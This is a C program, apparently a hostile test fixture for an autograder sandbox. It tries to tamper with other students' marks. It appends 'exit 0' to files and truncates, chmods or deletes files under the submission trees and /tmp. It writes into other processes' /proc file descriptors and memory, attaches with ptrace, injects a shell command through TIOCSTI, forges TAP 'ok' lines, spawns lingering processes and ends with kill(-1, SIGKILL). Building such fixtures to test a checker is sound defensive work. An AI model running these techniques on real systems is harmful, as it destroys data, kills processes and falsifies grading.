/* attack.c - a program that calls itself step 01 and tries to change the marks
 * of others, in all ways that were found: checker.bats holds the checker
 * against it.
 * @TOP@ and @SUBMISSIONS@ are put in there. It says "reached" where it
 * succeeds. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void reached(const char *what)
{
    fprintf(stderr, "reached %s\n", what);
}

/* Write to PATH, make it anew, take it away, take its rights. */
static int spoil(const char *path, const struct stat *status, int type,
                 struct FTW *at)
{
    char made[4096];
    int fd = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);

    (void)at;
    if (S_ISREG(status->st_mode) && fd != -1 && write(fd, "\nexit 0\n", 8) == 8)
        reached(path);
    if (fd != -1)
        close(fd);
    snprintf(made, sizeof made, "%s/99_reached", path);
    if (type == FTW_D && open(made, O_CREAT | O_WRONLY, 0666) != -1)
        reached(made);
    if (chmod(path, 0) == 0 || truncate(path, 0) == 0 || unlink(path) == 0)
        reached(path);
    return 0;
}

/* What process PID has open, its memory, its root. */
static void enter(long pid)
{
    char path[64];
    struct stat theirs, mine;

    for (int n = -2; n < 100; n++) {
        const char *names[] = {"mem", "root/tmp/99_reached"};
        if (n < 0)
            snprintf(path, sizeof path, "/proc/%ld/%s", pid, names[n + 2]);
        else
            snprintf(path, sizeof path, "/proc/%ld/fd/%d", pid, n);
        int fd =
            open(path, O_RDWR | O_APPEND | O_NONBLOCK | (n == -1 ? O_CREAT : 0),
                 0666);
        if (fd == -1)
            continue;
        fstat(fd, &theirs);
        fstat(1, &mine);
        if (!S_ISCHR(theirs.st_mode) && theirs.st_ino != mine.st_ino) {
            reached(path);
            dprintf(fd, "ok 1 01 says that the first socket is created\n");
        }
        close(fd);
    }
    if (ptrace(PTRACE_ATTACH, (pid_t)pid, NULL, NULL) == 0)
        reached("a process, by ptrace");
    if (kill((pid_t)pid, SIGSTOP) == 0)
        reached("a process, by SIGSTOP");
}

int main(void)
{
    static const char *const trees[] = {"@TOP@", "@SUBMISSIONS@", "/tmp",
                                        "/dev/shm", ".."};
    const char *keys = "touch /tmp/99_reached\n";

    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
        mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    for (size_t i = 0; i < sizeof trees / sizeof *trees; i++)
        nftw(trees[i], spoil, 20, FTW_PHYS);
    for (long pid = 1; pid < 2000; pid++)
        if (pid != getpid())
            enter(pid);
    int tty = open("/dev/tty", O_RDWR);
    for (; tty != -1 && *keys != '\0'; keys++)
        if (ioctl(tty, TIOCSTI, keys) == 0)
            reached("the terminal");
    shmget(0x99999999, 4096, IPC_CREAT | 0666);
    for (int i = 0; i < 100; i++)
        if (fork() == 0) {
            setsid();
            signal(SIGTERM, SIG_IGN);
            if (fork() == 0)
                execlp("sleep", "sleep", "987654", (char *)NULL);
            pause();
        }
    printf("first socket created\nok 1 01 says that the first socket is "
           "created\n");
    fflush(stdout);
    kill(-1, SIGKILL);
    return 0;
}
